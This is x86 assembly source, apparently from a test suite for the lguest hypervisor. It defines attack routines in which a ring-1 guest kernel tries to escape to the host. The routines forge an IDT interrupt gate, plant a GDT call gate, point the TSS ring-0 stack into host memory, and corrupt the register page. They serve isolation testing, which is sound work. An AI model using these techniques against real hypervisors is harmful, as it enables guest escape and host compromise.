/* What a kernel at ring 1 does with a Switcher that it can write to, or a host. */

/*
 * A gate for INT 30 of its own, with the Switcher's code segment: in the IDT of the Switcher's second page, then in the
 * host's own.
 */
ATTACK  forge_idt
        TOUCH   forge_payload
        movl    PARAMS + AP_IDT, %ebx
        call    1f
        movl    PARAMS + AP_DIRECT, %ebx
        addl    PARAMS + AP_IDT_PA, %ebx
        call    1f
        END
1:      movl    $forge_payload, %eax
        andl    $0xffff, %eax
        orl     $0x00500000, %eax
        movl    $forge_payload, %esi
        andl    $0xffff0000, %esi
        orl     $(INTERRUPT_GATE | DPL3), %esi
        movl    %eax, %edx
        TRY     movl %edx, 30 * 8(%ebx)
        TRY     movl %esi, 30 * 8 + 4(%ebx)
        TRY     int $30
        ret

/* A call gate in the GDT there. */
ATTACK  forge_gdt
        TOUCH   forge_payload
        movl    PARAMS + AP_GDT, %ebx
        movl    $forge_payload, %edx
        andl    $0xffff, %edx
        orl     $0x00500000, %edx
        movl    $forge_payload, %esi
        andl    $0xffff0000, %esi
        orl     $0x0000ec00, %esi
        TRY     movl %edx, 20 * 8(%ebx)
        TRY     movl %esi, 20 * 8 + 4(%ebx)
        TRY     lcall $(20 * 8 + 1), $0
        END

/* The TSS: ring 0's stack in the host's memory. */
ATTACK  forge_tss
        movl    PARAMS + AP_TSS, %ebx
        movl    PARAMS + AP_SECRET_VA, %esi
        addl    $0x800, %esi
        TRY     movl %esi, 4(%ebx)
        TRY     ud2
        END

/* Its own registers' page, which has to be writable: rubbish in all of it before each way out. */
ATTACK  forge_state
        movl    $40, %esi
1:      movl    PARAMS + AP_STATE, %ebx
        subl    $0x1000, %ebx
2:      TRY     movl $MARK, (%ebx)
        cmpl    $-1, %ecx
        jne     3f
        addl    $4, %ebx
        testl   $0xfff, %ebx
        jnz     2b
        TRY     ud2
        pushl   %esi
        HCALL   LHCALL_FLUSH_ASYNC
        popl    %esi
        decl    %esi
        jnz     1b
3:      END
        PAYLOAD forge_payload
